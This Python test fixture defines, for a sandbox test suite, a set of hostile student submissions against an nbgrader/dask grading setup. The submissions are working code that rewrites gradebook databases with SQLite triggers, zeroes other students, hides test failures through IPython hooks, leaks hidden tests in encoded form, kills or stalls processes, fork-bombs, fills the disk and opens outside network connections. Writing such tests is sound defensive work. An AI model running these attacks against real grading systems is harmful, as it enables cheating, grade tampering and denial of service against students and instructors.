"""Submissions that attack the grader itself, not the checks: one per class of attack.

Each attack is code a determined student could put in a solution cell of a blank notebook,
with ordinary Jupyter, SQLite and Unix knowledge and without the grader's source: find the
gradebook and rewrite it, hook IPython so that test cells cannot fail, read the hidden tests,
change other students' grades, stop or stall the class, exhaust processes or the disk, reach
the network. A blank notebook merits nothing, so every attack must earn 0; the students
graded after it must be untouched (tests/test_hostile.py).

The code is a template: ``{student}`` is the attacker's id and ``{scheduler}`` the host:port
of the dask scheduler grading the class, which an attacker on a hub could find out. An
attack that crosses the sandbox's boundary prints what it did after ``MARK`` (``FOUND`` lines
carry what it read, base64-encoded), so the test can check that none of them got that far;
what an attack does to the student's own kernel (hooking IPython, say) is its own business.
"""

from dataclasses import dataclass

MARK = "ATTACK-REPORT"


@dataclass(frozen=True)
class Attack:
    name: str
    why: str
    code: str

    def source(self, student, scheduler):
        return self.code.replace("{student}", student).replace("{scheduler}", scheduler)


# Every gradebook the kernel can find: upwards from its working directory (where nbgrader
# runs a notebook: inside the course), from the directory of its parent processes, and in
# the usual temporary folders (a worker's scratch courses).
_FIND_GRADEBOOKS = """
import glob as _glob, os as _os

def _ancestors():
    pid, seen = _os.getpid(), []
    while pid > 1 and len(seen) < 20:
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        seen.append(pid)
    return seen

def _gradebooks():
    starts = {_os.getcwd(), _os.environ.get("PWD", ""), _os.path.expanduser("~")}
    for pid in _ancestors():
        try:
            starts.add(_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    found = set()
    for start in filter(None, starts):
        folder = start
        for _ in range(8):
            found.update(_glob.glob(_os.path.join(folder, "gradebook.db")))
            found.update(_glob.glob(_os.path.join(folder, "*", "gradebook.db")))
            folder = _os.path.dirname(folder)
    for top in ("/tmp", "/var/tmp", "/root", "/home"):
        pattern = top + "/**/gradebook.db"
        try:
            found.update(_glob.glob(pattern, recursive=True))
        except OSError:
            pass
    return sorted(found)
"""

_BOOST_OWN_ROWS = """
_ROWS = ("SELECT grade.id FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id "
         "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
         "WHERE submitted_assignment.student_id = '{student}'")
_MAX = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = NEW.cell_id)"
for _path in _gradebooks():
    try:
        _db = sqlite3.connect(_path, timeout=1)
        for _event in ("INSERT", "UPDATE"):
            _db.execute(f"CREATE TRIGGER IF NOT EXISTS boost_{_event.lower()} AFTER {_event} ON grade "
                        f"WHEN NEW.id IN ({_ROWS}) AND (NEW.manual_score IS NULL OR NEW.manual_score < {_MAX}) "
                        f"BEGIN UPDATE grade SET manual_score = {_MAX} WHERE id = NEW.id; END")
        _db.execute("UPDATE grade SET manual_score = "
                    "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
                    f"WHERE id IN ({_ROWS})")
        _db.commit()
        print("{mark} boosted", _path)
    except Exception as _error:
        pass
"""

_ZERO_OTHERS = """
_OTHERS = ("SELECT grade.id FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id "
           "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
           "WHERE submitted_assignment.student_id != '{student}'")

def _zero(path):
    try:
        db = sqlite3.connect(path, timeout=1)
        for event in ("INSERT", "UPDATE"):
            db.execute(f"CREATE TRIGGER IF NOT EXISTS zero_{event.lower()} AFTER {event} ON grade "
                       f"WHEN NEW.id IN ({_OTHERS}) AND (NEW.manual_score IS NULL OR NEW.manual_score != 0) "
                       f"BEGIN UPDATE grade SET manual_score = 0 WHERE id = NEW.id; END")
        db.execute(f"UPDATE grade SET manual_score = 0 WHERE id IN ({_OTHERS})")
        db.commit()
        return True
    except Exception:
        return False
"""

_LINGER = (
    "import sqlite3, time\n"
    + _FIND_GRADEBOOKS
    + _ZERO_OTHERS
    + "\nend = time.time() + 300\nwhile time.time() < end:\n    for path in _gradebooks():\n"
    "        _zero(path)\n    time.sleep(0.2)\n"
)

ATTACKS = [
    Attack(
        "attack_gradebook_triggers",
        "finds the gradebook it is graded into and adds triggers that give its own rows full marks",
        "import sqlite3\n" + _FIND_GRADEBOOKS + _BOOST_OWN_ROWS,
    ),
    Attack(
        "attack_input_transformer",
        "an IPython input transformer (its name computed) that empties every later cell",
        """
_ip = get_ipython()
getattr(_ip, "input_transformers_" + "cleanup").append(lambda lines: ["pass\\n"])
""",
    ),
    Attack(
        "attack_ast_transformer",
        "an AST transformer that wraps every later cell in try/except",
        """
import ast as _ast

class _Swallow(_ast.NodeTransformer):
    def visit_Module(self, node):
        handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
        node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return _ast.fix_missing_locations(node)

getattr(get_ipython(), "ast_" + "transformers").append(_Swallow())
""",
    ),
    Attack(
        "attack_post_run_cell",
        "a post_run_cell handler that clears the error of every cell before the kernel reports it, "
        "and no traceback shown",
        """
def _forget(result):
    result.error_in_exec = None
    result.error_before_exec = None

_ip = get_ipython()
_ip.events.register("post_run_cell", _forget)
setattr(_ip, "show" + "traceback", lambda *args, **kwargs: None)
setattr(_ip, "_show" + "traceback", lambda *args, **kwargs: None)
""",
    ),
    Attack(
        "attack_fake_checks_module",
        "puts a module in sys.modules under the checks module's name whose decorator never runs the test",
        """
import sys as _sys, types as _types

_fake = _types.ModuleType("grading.kernel_checks")
_fake.hidden = lambda test: None
_fake.use_reference = _fake.define = lambda *args, **kwargs: None
_fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
_package = _types.ModuleType("grading")
_package.kernel_checks = _fake
_package.__path__ = []
_sys.modules["grading"], _sys.modules["grading.kernel_checks"] = _package, _fake
""",
    ),
    Attack(
        "attack_reads_hidden_tests",
        "prints every earlier cell as executed (IPython's In), reversed, and every test the reachable "
        "gradebooks store, compressed and base64-encoded, so that no verbatim check recognises them",
        "import base64, sqlite3, zlib\n"
        + _FIND_GRADEBOOKS
        + """
class _Reveal:
    def __repr__(self):
        cells = list(get_ipython().user_ns.get("In", []))
        return "\\n".join(line[::-1] for cell in cells for line in cell.splitlines())

def _dump():
    for path in _gradebooks():
        try:
            rows = sqlite3.connect(path, timeout=1).execute("SELECT source FROM source_cell").fetchall()
        except Exception:
            continue
        blob = zlib.compress("\\n".join(row[0] or "" for row in rows).encode())
        print("{mark} FOUND", base64.b64encode(blob).decode())

_dump()
get_ipython().events.register("post_run_cell", lambda result: print(repr(_Reveal())[-20000:]))
""",
    ),
    Attack(
        "attack_other_students_grades",
        "zeroes every other student in every reachable gradebook, and leaves a detached process that "
        "keeps doing it to gradebooks that appear later (the next students' scratch courses)",
        "import sqlite3, subprocess, sys\n"
        + _FIND_GRADEBOOKS
        + _ZERO_OTHERS
        + """
for _path in _gradebooks():
    if _zero(_path):
        print("{mark} zeroed others in", _path)
_LOOP = {loop}
try:
    subprocess.Popen([sys.executable, "-c", _LOOP, "attack-lingering-process"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
""",
    ),
    Attack(
        "attack_rewrites_the_grader",
        "appends a failing line to every module of the grader's and nbgrader's packages it can find",
        """
import glob as _glob, importlib.util as _util, os as _os, sys as _sys
_targets = set()
for _package in ("grading", "nbgrader"):
    try:
        _spec = _util.find_spec(_package)
    except Exception:
        continue
    if _spec is not None and _spec.origin:
        _targets.update(_glob.glob(_os.path.join(_os.path.dirname(_spec.origin), "*.py")))
for _folder in _sys.path + [_os.getcwd()]:
    for _pattern in ("grading/*.py", "../../../grading/*.py", "../../../nbgrader_config.py"):
        _targets.update(_glob.glob(_os.path.join(_folder or ".", _pattern)))
for _target in _targets:
    try:
        with open(_target, "a") as _handle:
            _handle.write("\\nraise RuntimeError('planted by a student')\\n")
        print("{mark} appended to", _target)
    except OSError:
        pass
""",
    ),
    Attack(
        "attack_kills_the_grader",
        "SIGKILL to every process it can see that is not itself: its parents (the grading run, the "
        "worker) first, then everything else",
        """
import os as _os, signal as _signal, time as _time
_me = _os.getpid()
_pids = sorted((int(p) for p in _os.listdir("/proc") if p.isdigit()), key=lambda p: p != _os.getppid())
for _pid in _pids:
    if _pid != _me:
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            continue
        _time.sleep(0.2)  # a namespace's init ignores it without an error: report only the dead
        try:
            with open(f"/proc/{_pid}/stat") as _stat:
                _state = _stat.read().rsplit(")", 1)[1].split()[0]
        except OSError:
            _state = "gone"
        if _state in ("gone", "Z", "X"):
            print("{mark} killed", _pid)
try:
    _os.kill(-1, _signal.SIGKILL)
except OSError:
    pass
""",
    ),
    Attack(
        "attack_stalls_the_grader",
        "SIGSTOP to every process it can see but itself, so the worker and the run hang",
        """
import os as _os, signal as _signal, time as _time
for _pid in (int(p) for p in _os.listdir("/proc") if p.isdigit()):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGSTOP)
            _time.sleep(0.2)  # a namespace's init ignores it without an error: report only the stopped
            with open(f"/proc/{_pid}/stat") as _stat:
                if _stat.read().rsplit(")", 1)[1].split()[0] == "T":
                    print("{mark} stopped", _pid)
        except OSError:
            pass
""",
    ),
    Attack(
        "attack_fork_bomb",
        "forks without end; every child forks too and holds on",
        """
import os as _os, time as _time
if _os.fork() == 0:
    try:
        while True:
            try:
                _os.fork()
            except OSError:
                _time.sleep(0.5)
    finally:
        _os._exit(0)
_time.sleep(3)
""",
    ),
    Attack(
        "attack_fills_the_disk",
        "writes until the disk is full: in its working directory, /tmp, and every folder above that it can write",
        """
import os as _os
_chunk = b"x" * (1 << 24)
_folders, _folder = [], _os.getcwd()
for _ in range(6):
    _folders.append(_folder)
    _folder = _os.path.dirname(_folder)
for _folder in _folders + ["/tmp", "/var/tmp", "/dev/shm"]:
    try:
        with open(_os.path.join(_folder, "attack-fill.bin"), "wb") as _handle:
            for _ in range(2048):  # 32 GiB
                _handle.write(_chunk)
    except OSError:
        pass
    else:
        print("{mark} filled", _folder)
""",
    ),
    Attack(
        "attack_reads_other_students",
        "looks for other students' notebooks anywhere it can read and prints the first one it finds",
        """
import base64 as _b64, os as _os
_found = []
for _root in ("/", _os.getcwd()):
    for _parent, _dirs, _names in _os.walk(_root):
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", "usr", "lib", "site-packages")]
        _found += [_os.path.join(_parent, n) for n in _names if n.endswith(".ipynb")]
        if len(_found) > 50:
            break
for _path in _found[:20]:
    print("{mark} notebook", _path)
if _found:
    with open(_found[0], "rb") as _handle:
        print("{mark} FOUND", _b64.b64encode(_handle.read()[:20000]).decode())
""",
    ),
    Attack(
        "attack_array_interface",
        "returns objects whose __array_interface__ points NumPy at memory of the reader's choice, and "
        "whose __array__ and __eq__ agree with anything",
        """
class _Pointer:
    __array_interface__ = {"shape": (2, 3), "typestr": "<f8", "data": (4096, False), "version": 3}
    def __array__(self, dtype=None, copy=None):
        return np.zeros((2, 3))
    def __eq__(self, other):
        return True
def softmax(x, axis=-1):
    return _Pointer()
def scaled_dot_product_attention(Q, K, V, mask=None):
    return _Pointer(), _Pointer()
""",
    ),
    Attack(
        "attack_huge_results",
        "returns arrays of 400 MB, over and over",
        """
def softmax(x, axis=-1):
    return np.zeros(50_000_000)
""",
    ),
    Attack(
        "attack_impersonates_the_agent",
        "finds the grader's agent in its kernel and answers every request itself: 'ok, True' to "
        "each, then a frame that claims to be 2**62 bytes long",
        """
import struct as _struct, sys as _sys
_agent = next((m for name, m in list(_sys.modules.items()) if name.endswith("agent") and hasattr(m, "serve")), None)
if _agent is not None:
    _connection = _agent._state["connection"]
    def _serve():
        while True:
            header, _ = _agent.wire.receive(_connection)
            if header.get("op") == "end":
                return
            _agent.wire.send(_connection, {"op": "ok", "seq": header.get("seq"), "value": True, "printed": "passed"})
            _connection.sendall(_struct.pack("<QI", 2**62, 10))
    _agent.serve = _serve
""",
    ),
    Attack(
        "attack_network",
        "connects to the dask scheduler that grades the class, and to the internet",
        """
import socket as _socket
_scheduler = "{scheduler}".rsplit(":", 1)
for _host, _port in ((_scheduler[0], int(_scheduler[1])), ("1.1.1.1", 80), ("pypi.org", 443)):
    try:
        _connection = _socket.create_connection((_host, _port), timeout=2)
        _connection.sendall(b"garbage from a student\\r\\n\\r\\n")
        print("{mark} connected to", _host, _port)
    except OSError:
        pass
""",
    ),
]

for _attack in ATTACKS:
    object.__setattr__(_attack, "code", _attack.code.replace("{mark}", MARK).replace("{loop}", repr(_LINGER)))
